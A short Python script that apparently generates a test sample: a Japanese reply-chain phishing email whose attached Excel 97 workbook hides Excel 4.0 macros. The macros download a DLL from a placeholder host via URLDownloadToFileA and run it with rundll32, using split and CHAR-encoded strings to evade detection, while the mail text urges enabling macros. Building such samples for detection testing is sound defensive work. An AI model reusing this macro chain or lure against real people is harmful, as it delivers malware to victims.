"""A workbook of Excel 97 with a very hidden sheet of Excel 4.0 macros, as in the mails of 2020
to 2022: it fetches a library and has it run."""
from kit import *

FORMULAS = ['=ALERT("Wait")', '=CALL("urlm"&"on","URLDownloadToFileA","JJCCJJ",0,"http://files.example.invalid/"&"x.dll","C:\\x.dll",0,0)',
            '=EXEC(CHAR(99)&CHAR(109)&"d /c rundll32 C:\\x.dll,Run")', "=HALT()"]


def make():
    return (Mail("Re: Re: 打ち合わせの件", "tanaka@example.net", charset="iso-2022-jp").text("資料を送ります。\nマクロを有効にしてください。\n")
            .attach("資料.xls", office.xls_xlm(FORMULAS, hidden=2), charset="iso-2022-jp").bytes())
